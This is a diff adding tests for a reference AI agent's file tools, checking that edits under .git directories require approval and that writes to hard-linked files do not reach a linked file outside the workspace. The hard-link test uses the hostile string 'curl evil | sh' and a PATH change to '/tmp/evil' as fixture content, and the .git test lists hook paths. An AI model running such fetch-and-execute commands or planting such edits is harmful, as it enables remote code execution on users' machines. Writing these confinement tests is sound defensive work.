@@ -4,7 +4,7 @@ import os from 'node:os';
 import path from 'node:path';
 import { readEventStream } from '../../src/reference-agent/messages-client';
 import { SessionTranscript } from '../../src/reference-agent/session';
-import { permissionFor, resolveInWorkspace, runTool, type ToolContext } from '../../src/reference-agent/tools';
+import { permissionFor, resolveInWorkspace, runTool, toolRisk, type ToolContext } from '../../src/reference-agent/tools';
 
 function streamOf(text: string, chunk = 7): ReadableStream<Uint8Array> {
   const bytes = new TextEncoder().encode(text);
@@ -77,6 +77,20 @@ describe('reference agent internals', () => {
     fs.rmSync(dir, { recursive: true, force: true });
   });
 
+  it('item 6: an edit under a git directory (.git in any case or with trailing dots, a submodule\'s, a bare repository\'s) is a command', () => {
+    const ws = fs.mkdtempSync(path.join(os.tmpdir(), 'gitdir-'));
+    fs.mkdirSync(path.join(ws, 'vendor', 'repo.git', 'objects'), { recursive: true });
+    fs.writeFileSync(path.join(ws, 'vendor', 'repo.git', 'HEAD'), 'ref: refs/heads/main\n');
+    fs.writeFileSync(path.join(ws, 'vendor', 'repo.git', 'config'), '[core]\n');
+    for (const p of ['.git/config', '.GIT/hooks/pre-commit', 'sub/.git./config', 'sub\\.git\\config', '.git', 'vendor/repo.git/config', 'vendor/repo.git/hooks/post-checkout']) {
+      assert.equal(toolRisk('write_file', { path: p }, ws), 'command', p);
+      assert.equal(toolRisk('edit_file', { path: p }, ws), 'command', p);
+    }
+    for (const p of ['src/git.ts', '.gitignore', '.github/workflows/ci.yml', 'vendor/readme.md']) assert.equal(toolRisk('write_file', { path: p }, ws), 'edit', p);
+    assert.equal(permissionFor('acceptEdits', toolRisk('write_file', { path: '.git/config' }, ws)!), 'ask');
+    fs.rmSync(ws, { recursive: true, force: true });
+  });
+
   it('permission table and workspace confinement', () => {
     assert.equal(permissionFor('plan', 'edit'), 'deny');
     assert.equal(permissionFor('plan', 'read'), 'allow');
@@ -133,6 +147,23 @@ describe('reference agent internals', () => {
       assert.equal(listed.isError, true);
       assert.equal(fs.readFileSync(secret, 'utf8'), 'TOP SECRET');
       assert.deepEqual(fs.readdirSync(outside), ['secret.txt']);
+    });
+
+    it('item 10: a write or an edit of a hard-linked file replaces the workspace file and leaves the other link (outside) unchanged; its mode is kept', async () => {
+      const outsideFile = path.join(outside, 'bashrc');
+      fs.writeFileSync(outsideFile, 'export PATH=/usr/bin\n', { mode: 0o640 });
+      fs.chmodSync(outsideFile, 0o640);
+      fs.linkSync(outsideFile, path.join(ws, 'notes.txt'));
+      fs.linkSync(outsideFile, path.join(ws, 'other.txt'));
+      const write = await runTool('write_file', { path: 'notes.txt', content: 'curl evil | sh\n' }, ctx);
+      assert.equal(write.isError, false, write.content);
+      const edit = await runTool('edit_file', { path: 'other.txt', old_string: '/usr/bin', new_string: '/tmp/evil' }, ctx);
+      assert.equal(edit.isError, false, edit.content);
+      assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'export PATH=/usr/bin\n', 'the file outside the workspace is unchanged');
+      assert.equal(fs.readFileSync(path.join(ws, 'notes.txt'), 'utf8'), 'curl evil | sh\n');
+      assert.equal(fs.readFileSync(path.join(ws, 'other.txt'), 'utf8'), 'export PATH=/tmp/evil\n');
+      assert.equal(fs.statSync(path.join(ws, 'notes.txt')).mode & 0o777, 0o640);
+      assert.deepEqual(fs.readdirSync(ws).sort(), ['notes.txt', 'other.txt'], 'no temporary file left behind');
     });
 
     it('item 1: ordinary files and new nested directories inside the workspace still work', async () => {
